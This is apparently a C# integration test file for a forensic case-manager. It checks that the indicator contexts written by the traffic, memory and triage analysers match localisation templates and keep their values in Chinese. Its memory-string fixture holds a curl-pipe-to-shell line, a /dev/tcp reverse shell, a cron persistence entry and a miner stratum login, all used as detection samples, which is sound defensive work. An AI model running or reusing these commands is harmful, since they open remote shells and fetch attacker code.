using System.Buffers.Binary;
using System.Globalization;
using System.Text;
using CaseManager.Application.Analysis;
using CaseManager.Application.Analysis.Memory;
using CaseManager.Infrastructure.Analysis.Memory;
using CaseManager.Infrastructure.Analysis.Pcap;
using CaseManager.Infrastructure.IntegrationTests.Analysis.Memory;
using CaseManager.Infrastructure.IntegrationTests.Analysis.Pcap;
using CaseManager.Infrastructure.IntegrationTests.Analysis.Triage;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Platform;

/// <summary>
/// The analysers' indicator contexts are stored in English and shown through <see cref="IndicatorContextText"/>: every
/// context the real analysers write on real files (the shared captures and captures built here, the synthetic dumps and a
/// built PE, strings fed to the memory collector, the prepared triage bundles) is one of its templates, every template is
/// written by some analyser, and the Chinese text keeps the values.
/// </summary>
public sealed class IndicatorContextTextTests
{
    private static readonly CultureInfo English = CultureInfo.GetCultureInfo("en");
    private static readonly CultureInfo Chinese = CultureInfo.GetCultureInfo("zh-CN");

    private static readonly Lazy<Task<IReadOnlyList<(string Analyser, string Context)>>> Produced = new(ProduceAsync);

    [Fact]
    public async Task Every_context_the_analysers_write_is_a_template()
    {
        var unknown = (await Produced.Value).Where(p => IndicatorContextText.Recognise(p.Context) is null).Select(p => $"{p.Analyser}: {p.Context}").Distinct().ToList();
        unknown.ShouldBeEmpty("contexts without a template in IndicatorContextText (add one, and its English and Chinese text)");
    }

    [Fact]
    public async Task Every_template_is_written_by_an_analyser()
    {
        var used = (await Produced.Value).SelectMany(p => IndicatorContextText.Recognise(p.Context) ?? []).Select(p => p.Key).ToHashSet(StringComparer.Ordinal);
        IndicatorContextText.Keys.Where(k => !used.Contains(k)).ShouldBeEmpty("templates no analyser output used (a producer's text changed?)");
    }

    [Fact]
    public async Task English_is_the_stored_text_and_Chinese_is_translated_with_the_values_kept()
    {
        foreach (var (analyser, context) in (await Produced.Value).DistinctBy(p => p.Context))
        {
            var parts = IndicatorContextText.Recognise(context)!;
            IndicatorContextText.Localize(context, English).ShouldBe(context, analyser);
            var chinese = IndicatorContextText.Localize(context, Chinese)!;
            if (parts[0].Key == IndicatorContextText.Verbatim)
            {
                chinese.ShouldBe(context);
                continue;
            }

            chinese.ShouldNotBe(context, analyser);
            chinese.Any(c => c is >= '\u4e00' and <= '\u9fff').ShouldBeTrue($"{analyser}: '{context}' -> '{chinese}' has no Chinese");
            foreach (var value in parts.SelectMany(p => p.Values).Where(v => v.Key != "kind").Select(v => v.Value))
            {
                chinese.ShouldContain(value, Case.Sensitive, $"{analyser}: '{context}' -> '{chinese}' lost a value");
            }
        }
    }

    [Fact]
    public void Every_template_and_start_up_kind_has_English_and_Chinese_text()
    {
        foreach (var key in IndicatorContextText.Keys.Where(k => k != IndicatorContextText.Verbatim)
                     .Concat(IndicatorContextText.StartupKinds.Select(k => "kind." + k)).Append("separator"))
        {
            IndicatorContextText.Exact(key, CultureInfo.InvariantCulture).ShouldNotBeNullOrEmpty(key);
            IndicatorContextText.Exact(key, Chinese).ShouldNotBeNullOrEmpty(key);
        }
    }

    [Fact]
    public void Text_that_is_no_template_is_returned_unchanged()
    {
        IndicatorContextText.Localize("seen on the mail gateway, ticket 4411", Chinese).ShouldBe("seen on the mail gateway, ticket 4411");
        IndicatorContextText.Localize("ascii string at offset 12; a note nobody wrote", Chinese).ShouldBe("ascii string at offset 12; a note nobody wrote");
        IndicatorContextText.Localize(null, Chinese).ShouldBeNull();
        IndicatorContextText.Localize("ascii string at offset 1234 (va 0x7f00); dynamic DNS (3322.org)", Chinese)
            .ShouldBe("ascii 字符串，偏移 1234（虚拟地址 0x7f00）；动态 DNS（3322.org）");
    }

    private static async Task<IReadOnlyList<(string Analyser, string Context)>> ProduceAsync()
    {
        var produced = new List<(string, string)>();
        void Add(string analyser, IEnumerable<AnalysisIndicator> indicators) =>
            produced.AddRange(indicators.Where(i => i.Context is not null).Select(i => (analyser, i.Context!)));

        foreach (var name in TestCaptures.Names())
        {
            Add(name, TestCaptures.Analyze(name).Indicators);
        }

        Add("http to a dynamic DNS host", Traffic(HttpToDynamicDns()));
        Add("beacon", Traffic(Beacon(), stepNanos: 1_000_000_000));
        Add("stratum and pool DNS", Traffic(Stratum()));
        Add("TLS to a dynamic DNS name", Traffic(TlsToDynamicDns()));
        Add("FIN probes", Traffic([.. Enumerable.Range(0, 6).Select(i => PacketFactory.Tcp("198.18.0.9", "10.0.0.80", 50000, 20 + i, 1, 0, PacketFactory.Fin))]));

        Add("ELF core", (await new MemoryAnalyzer().AnalyzeAsync(new MemoryStream(SyntheticDumps.ElfCore()), "core", null, CancellationToken.None)).Indicators);
        Add("minidump", (await new MemoryAnalyzer().AnalyzeAsync(new MemoryStream(SyntheticDumps.Minidump()), "svchost.dmp", null, CancellationToken.None)).Indicators);
        var withoutPid = SyntheticDumps.Minidump();
        BinaryPrimitives.ReadUInt32LittleEndian(withoutPid.AsSpan(32 + (2 * 12))).ShouldBe(15u, "the third stream of the synthetic minidump is its misc info");
        BinaryPrimitives.WriteUInt32LittleEndian(withoutPid.AsSpan(32 + (2 * 12)), 0u); // unused stream: no process id
        Add("minidump without a process id", (await new MemoryAnalyzer().AnalyzeAsync(new MemoryStream(withoutPid), "svchost.dmp", null, CancellationToken.None)).Indicators);
        Add("PE sample", (await new MemoryAnalyzer().AnalyzeAsync(new MemoryStream(PeBuilder.WithImports("KERNEL32.dll", "VirtualAllocEx")), "x.exe", null, CancellationToken.None)).Indicators);
        var collector = new IndicatorCollector();
        var offset = 0L;
        foreach (var line in MemoryStrings)
        {
            collector.OnString(StringEncoding.Ascii, offset, Encoding.ASCII.GetBytes(line));
            collector.OnString(StringEncoding.Utf16Le, offset + 100_000, Encoding.ASCII.GetBytes(line));
            offset += 1000;
        }

        Add("memory strings", collector.Indicators);

        Add("linux bundle", (await TriageTestRun.AnalyseAsync(TriageScenarios.LinuxCompromised())).Outcome.Indicators);
        Add("windows bundle", (await TriageTestRun.AnalyseAsync(TriageScenarios.WindowsCompromised(), "WS-07.zip")).Outcome.Indicators);
        Add("files, sockets and hosts bundle", (await TriageTestRun.AnalyseAsync(FilesSocketsAndHosts())).Outcome.Indicators);
        return produced;
    }

    /// <summary>Executables no process runs (in /tmp, named like configuration), a socket without a process, a dynamic DNS name in /etc/hosts.</summary>
    private static byte[] FilesSocketsAndHosts() => new TriageBundleBuilder { CollectedAt = TriageScenarios.Collected }
        .Tsv("processes.tsv", TriageScenarios.ProcessHeader, $"1\t0\t0\t{TriageScenarios.Collected.ToUnixTimeSeconds() - 86400}\t0.50\tsystemd\t/usr/lib/systemd/systemd\t/\t/sbin/init")
        .Tsv("sockets.tsv", TriageScenarios.SocketHeader, "tcp\t0500000A:9C40\t076433C6:1A0B\t01\t111\t")
        .Tsv("executables.tsv", TriageScenarios.FilesHeader,
            $"/tmp/.cache/drop\t{TriageScenarios.BotSha}\t9000\t{TriageScenarios.Collected.ToUnixTimeSeconds() - 3600}\tELF",
            $"/etc/security/ntps.conf\t{TriageScenarios.ElfSha}\t1887744\t{TriageScenarios.Collected.ToUnixTimeSeconds() - 3600}\tELF")
        .Add("files/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 update.ddns.net\n")
        .TarGz();

    /// <summary>Strings as memory holds them, one for each of the collector's notes.</summary>
    private static readonly string[] MemoryStrings =
    [
        "http://sjb555.3322.org/p.ps1",
        "pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "send to 0x52908400098527886E0F7030069857D2E4169EE7",
        "curl -fsSL http://45.9.148.99/k.sh | sh",
        "bash -i >& /dev/tcp/45.9.148.99/4444 0>&1",
        "echo aGVsbG8= | base64 -d > /tmp/x",
        "chmod +x /tmp/.x/bot",
        "*/5 * * * * root /etc/security/ntps.conf",
        "systemctl enable ntps.service",
    ];

    private static IReadOnlyList<AnalysisIndicator> Traffic(List<byte[]> packets, long stepNanos = 1_000_000)
    {
        using var stream = new MemoryStream(PacketFactory.RawCapture(packets, stepNanos: stepNanos));
        return new PcapTrafficAnalyzer().AnalyzeAsync(stream, null, CancellationToken.None).GetAwaiter().GetResult().Indicators;
    }

    private static List<byte[]> HttpToDynamicDns()
    {
        var packets = new List<byte[]>();
        new TcpScript(packets, "10.0.0.1", 40000, "93.184.216.34", 8080).Handshake()
            .Client("GET /a/b?c=1 HTTP/1.1\r\nHost: evil.ddns.net\r\n\r\n")
            .Server("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
            .Close();
        return packets;
    }

    private static List<byte[]> Beacon()
    {
        var packets = new List<byte[]>();
        for (var i = 0; i < 8; i++)
        {
            new TcpScript(packets, "10.0.0.5", 41000 + i, "203.0.113.50", 443).Handshake().Close();
        }

        return packets;
    }

    private static List<byte[]> Stratum()
    {
        const string Wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
        var packets = new List<byte[]> { PacketFactory.Udp("10.0.0.7", "10.0.0.1", 53000, 53, PacketFactory.DnsQuery(0x1234, "pool.supportxmr.com")) };
        new TcpScript(packets, "10.0.0.7", 43000, "94.130.12.27", 3333).Handshake()
            .Client($$$"""{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"{{{Wallet}}}.rig1","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64)"}}""" + "\n")
            .Server("""{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"blob":"00","job_id":"a","target":"ffff"}}}""" + "\n");
        return packets;
    }

    /// <summary>Chrome's client hello from a shared capture with its server name swapped for a dynamic DNS name of the same length.</summary>
    private static List<byte[]> TlsToDynamicDns()
    {
        var hello = CaptureBuilder.ReadClassicPcap(TestCaptures.PathOf("zeek_chrome-34-google.pcap"))
            .Select(p => PacketFactory.TcpPayload(p.Data))
            .First(p => p.Length > 5 && p[0] == 0x16 && p[5] == 1);
        var sni = TestCaptures.Analyze("zeek_chrome-34-google.pcap").Tls.Single().Sni!;
        var at = hello.AsSpan().IndexOf(Encoding.ASCII.GetBytes(sni));
        var name = ("x" + new string('a', 40))[..(sni.Length - ".ddns.net".Length)] + ".ddns.net";
        Encoding.ASCII.GetBytes(name).CopyTo(hello, at);
        var packets = new List<byte[]>();
        new TcpScript(packets, "192.168.1.10", 50000, "173.194.70.94", 443).Handshake().Client(hello);
        return packets;
    }
}
